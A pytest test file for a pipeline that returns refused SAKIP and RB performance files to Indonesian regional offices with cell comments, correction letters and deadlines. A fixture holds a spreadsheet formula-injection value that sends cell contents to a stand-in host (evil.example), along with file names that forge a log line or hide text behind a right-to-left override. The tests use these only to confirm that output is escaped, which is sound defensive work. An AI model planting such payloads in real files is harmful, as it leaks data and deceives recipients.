"""A refused file goes back to its owner marked, in Bahasa Indonesia, until a fixed version loads.

One refresh of the samples with two bad files (a SAKIP workbook with four kinds of mistakes, an
RB export with a number written in words) serves the tests; the last test sends a corrected
workbook and sees the refusal end.
"""

import shutil
import subprocess
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from bs4 import BeautifulSoup

from orchestration import cli
from orchestration.settings import PROJECT_ROOT, Settings
from reports.feedback import write_packs
from tests.conftest import BEKASI, SAMPLES, query, run_refresh
from tests.crashes import manifest_with, run

SAKIP = f"sakip/{BEKASI}/sakip_2024.xlsx"
RB = f"rb/{BEKASI}/rb_2025.csv"
DEADLINE = date(2026, 12, 17)


def _spoil(sources):
    """The mistakes people make: a predicate that disagrees with its score, a misspelt agency,
    a component over its weight (so Nilai no longer adds up), a number in words."""
    workbook = openpyxl.load_workbook(sources / SAKIP)
    sheet = workbook.active
    sheet["H5"] = "B"  # 88,71 is A
    sheet["B9"] = "Dinas Kebudayaan Pariwisata"
    sheet["C8"] = 45.0  # Perencanaan Kinerja weighs 30
    workbook.save(sources / SAKIP)
    lines = (sources / RB).read_text(encoding="utf-8-sig").split("\n")
    lines[2] = lines[2].replace("75.96", "tujuh puluh")
    (sources / RB).write_text("\n".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def settings(tmp_path_factory) -> Settings:
    root = tmp_path_factory.mktemp("feedback")
    sources = shutil.copytree(SAMPLES, root / "sources")
    _spoil(sources)
    settings = Settings(
        sources_dir=sources,
        warehouse=root / "warehouse" / "kinerja.duckdb",
        manifest=PROJECT_ROOT / "ingest" / "sources.yaml",
    )
    assert run_refresh(settings).success  # the good files beside them publish
    return settings


@pytest.fixture(scope="module")
def packs(settings):
    return {pack.regency: pack for pack in write_packs(settings, None, None, DEADLINE)}


def _comments(sheet) -> dict[str, str]:
    return {cell.coordinate: cell.comment.text for row in sheet.iter_rows() for cell in row
            if cell.comment}  # fmt: skip


def test_the_refused_workbook_comes_back_with_each_bad_cell_marked_in_indonesian(packs):
    assert list(packs) == [BEKASI]  # Karawang sent nothing wrong
    path = next(
        p for p in packs[BEKASI].workbooks if p.name == "sakip-sakip_2024.xlsx-perbaikan.xlsx"
    )
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Ringkasan", "Hasil Evaluasi"]
    sheet = workbook["Hasil Evaluasi"]
    comments = _comments(sheet)
    assert comments == {
        "H5": "nilai 88,71 termasuk predikat A, sedangkan berkas menulis B: sesuaikan predikat "
        "dengan nilainya",
        "B9": "nama perangkat daerah tidak ada dalam daftar perangkat daerah 32.16; nama "
        "terdekat: 'Dinas Kebudayaan dan Pariwisata', 'Dinas Pemuda dan Olahraga', 'Dinas "
        "Ketahanan Pangan'. Pilih salah satu nama dari daftar",
        "C8": "di luar rentang yang diperbolehkan, 0 sampai 30: periksa kembali nilainya",
        "G8": "Nilai tidak sama dengan jumlah nilai komponen (selisih lebih dari 0,01): periksa "
        "nilai komponen dan Nilai",
    }
    assert {sheet[c].fill.fgColor.rgb for c in comments} == {"00FFC7CE"}
    assert sheet["H5"].value == "B" and sheet["C8"].value == 45  # the file as it was sent
    summary = list(workbook["Ringkasan"].iter_rows(values_only=True))
    header = summary.index(("No", "Lembar", "Baris", "Kolom", "Isian",
                            "Masalah dan cara memperbaiki"))  # fmt: skip
    listed = {(row[2], row[3], row[4]) for row in summary[header + 1 :]}
    assert listed == {(5, "Predikat", "B"), (9, "Unit Kerja", "Dinas Kebudayaan Pariwisata"),
                      (8, "Perencanaan Kinerja", "45"), (8, "Nilai", "80")}  # fmt: skip


def test_a_refused_csv_comes_back_as_the_same_annotated_workbook(packs):
    path = next(p for p in packs[BEKASI].workbooks if p.name == "rb-rb_2025.csv-perbaikan.xlsx")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Ringkasan", "Isi berkas"]
    sheet = workbook["Isi berkas"]
    assert [c.value for c in sheet[1]] == ["Tahun", "Kode", "Perangkat Daerah", "Nilai", "Predikat"]
    assert _comments(sheet) == {
        "D3": "'tujuh puluh' bukan angka: tulis angka saja, dengan koma desimal (contoh 75,50)"
    }


def test_one_letter_per_sending_office_lists_its_files_and_the_deadline(settings, packs):
    letters = {p.name: p for p in packs[BEKASI].letters}
    month = datetime.now(ZoneInfo("Asia/Jakarta")).strftime("%Y-%m")  # refused tonight, WIB
    assert set(letters) == {
        f"surat-inspektorat-{month}.html", f"surat-inspektorat-{month}.pdf",
        f"surat-bagian-organisasi-{month}.html", f"surat-bagian-organisasi-{month}.pdf",
    }  # fmt: skip
    page = BeautifulSoup(letters[f"surat-inspektorat-{month}.html"].read_text(), "html.parser")
    assert page.select_one("#penerima").get_text() == "Inspektorat"
    assert page.select_one("#tenggat").get_text() == "17 Desember 2026"
    assert [h.get_text() for h in page.select("#daftar-berkas h2")] == [f"1. {SAKIP}"]
    assert len(page.select("#daftar-berkas tbody tr")) == 4
    text = subprocess.run(
        ["pdftotext", str(letters[f"surat-inspektorat-{month}.pdf"]), "-"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    assert "17 Desember 2026" in text and "sesuaikan predikat" in text


def test_a_refusal_lasts_until_a_corrected_file_loads_and_its_pack_goes(
    settings, packs, monkeypatch
):
    def status():
        return dict(query(settings, "select source_file, status from marts.source_status "
                                    "where refused_at is not null"))  # fmt: skip

    assert status() == {SAKIP: "refused", RB: "refused"}
    shutil.copy(SAMPLES / SAKIP, settings.sources_dir / SAKIP)  # the Inspektorat's fixed file
    assert run_refresh(settings).success
    assert status() == {SAKIP: "corrected", RB: "refused"}
    monkeypatch.setenv("KINERJA_WAREHOUSE", str(settings.warehouse))
    assert cli.main(["feedback", "--regency", BEKASI, "--no-pdf"]) == 0
    left = sorted(p.name for p in (settings.feedback_dir / BEKASI).iterdir())
    month = datetime.now(ZoneInfo("Asia/Jakarta")).strftime("%Y-%m")  # refused tonight, WIB
    assert left == ["rb-rb_2025.csv-perbaikan.xlsx", f"surat-bagian-organisasi-{month}.html"]
    # The Bagian Organisasi sends its fix under another name and leaves the bad file where it
    # was: refused again every night, but corrected by the file of the same year that loaded.
    shutil.copy(SAMPLES / RB, settings.sources_dir / RB.replace(".csv", "_perbaikan.csv"))
    assert run_refresh(settings).success
    assert status() == {SAKIP: "corrected", RB: "corrected"}
    assert cli.main(["feedback", "--regency", BEKASI, "--no-pdf"]) == 0
    assert list((settings.feedback_dir / BEKASI).iterdir()) == []


HOSTILE_RB = (
    "Tahun,Kode,Perangkat Daerah,Nilai,Predikat\n"
    '2025,,"=HYPERLINK(""http://evil.example/?q=""&A1,""klik"")",=1+1,BB\n'
)
FORGED = f"sakip/{BEKASI}/sakip_2026\nloaded     61  sakip: fine.csv"
REVERSED = f"rb/{BEKASI}/rb_2019_\u202evsc.xlsx"


@pytest.fixture(scope="module")
def odd_refusals(tmp_path_factory):
    """Files refused in every way a pack must still cover: a cell that is a formula, a file too
    big to be read, a link out of the sources dir, two copies of one bad file under two names,
    file names with a newline and a right-to-left override."""
    root = tmp_path_factory.mktemp("odd")
    sources = shutil.copytree(SAMPLES, root / "sources")
    (sources / "rb" / BEKASI / "rb_2025_perbaikan.csv").write_text(HOSTILE_RB, encoding="utf-8")
    for name in ("rb_2019.csv", "rb_2019 (salinan).csv"):
        (sources / "rb" / BEKASI / name).write_text(HOSTILE_RB, encoding="utf-8")
    (sources / "merit" / BEKASI / "merit_2027.csv").symlink_to(root / "elsewhere.csv")
    (root / "elsewhere.csv").write_text("Tahun;Instansi;Nilai;Kategori\n", encoding="utf-8")
    (sources / FORGED).write_text("Kode;Nama;Nilai\n1;Dinas X;banyak\n", encoding="utf-8")
    (sources / REVERSED).write_text("not a workbook", encoding="utf-8")
    settings = Settings(
        sources_dir=sources,
        warehouse=root / "warehouse" / "kinerja.duckdb",
        manifest=manifest_with(
            root / "sources.yaml",
            {"source": "merit", "path": "merit/32.15/*.csv", "limits": {"max_file_bytes": 10}},
        ),
    )
    code, summary = run("refresh", settings=settings)
    assert code == 1, summary[-3000:]
    code, output = run("feedback", "--no-pdf", settings=settings)
    assert code == 0, output
    return settings, summary


def test_every_refused_file_gets_a_pack_the_odd_ones_too(odd_refusals):
    settings, _ = odd_refusals
    packs = {p.name for p in (settings.feedback_dir / BEKASI).iterdir()}
    assert {
        "rb-rb_2025_perbaikan.csv-perbaikan.xlsx",
        "rb-rb_2019.csv-perbaikan.xlsx",
        "rb-rb_2019-salinan-.csv-perbaikan.xlsx",
        "merit-merit_2027.csv-perbaikan.xlsx",  # a link: nothing was read, the summary says so
    } <= packs
    too_big = openpyxl.load_workbook(
        settings.feedback_dir / "32.15" / "merit-merit_2024.csv-perbaikan.xlsx"
    )
    assert too_big.sheetnames == ["Ringkasan"]
    assert "tidak dapat dibuka sebagai tabel" in str(too_big["Ringkasan"]["A5"].value)


def test_no_cell_of_any_pack_runs(odd_refusals):
    settings, _ = odd_refusals
    workbooks = list(settings.feedback_dir.rglob("*.xlsx"))
    assert len(workbooks) >= 6
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
    summary = openpyxl.load_workbook(
        settings.feedback_dir / BEKASI / "rb-rb_2025_perbaikan.csv-perbaikan.xlsx"
    )["Ringkasan"]
    values = {cell.value: cell for row in summary.iter_rows() for cell in row if cell.value}
    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
    assert values[hostile].data_type == "s" and values[hostile].quotePrefix
    assert values["=1+1"].data_type == "s" and values["=1+1"].quotePrefix


def test_two_files_of_identical_bytes_are_two_refusals(odd_refusals):
    settings, _ = odd_refusals
    refused = query(
        settings,
        "select source_file from marts.source_status where status = 'refused' "
        "and source_file like 'rb/32.16/rb_2019%.csv' order by 1",
    )
    assert refused == [(f"rb/{BEKASI}/rb_2019 (salinan).csv",), (f"rb/{BEKASI}/rb_2019.csv",)]


def test_a_file_name_cannot_forge_a_line_or_reverse_itself(odd_refusals):
    settings, summary = odd_refusals
    assert "\nloaded     61  sakip: fine.csv" not in summary
    assert "sakip_2026\\nloaded     61  sakip: fine.csv" in summary
    assert "rb_2019_\\u202evsc.xlsx" in summary and "\u202e" not in summary
    letters = list((settings.feedback_dir / BEKASI).glob("surat-*.html"))
    text = "".join(p.read_text(encoding="utf-8") for p in letters)
    assert "rb_2019_\\u202evsc.xlsx" in text and "\u202e" not in text
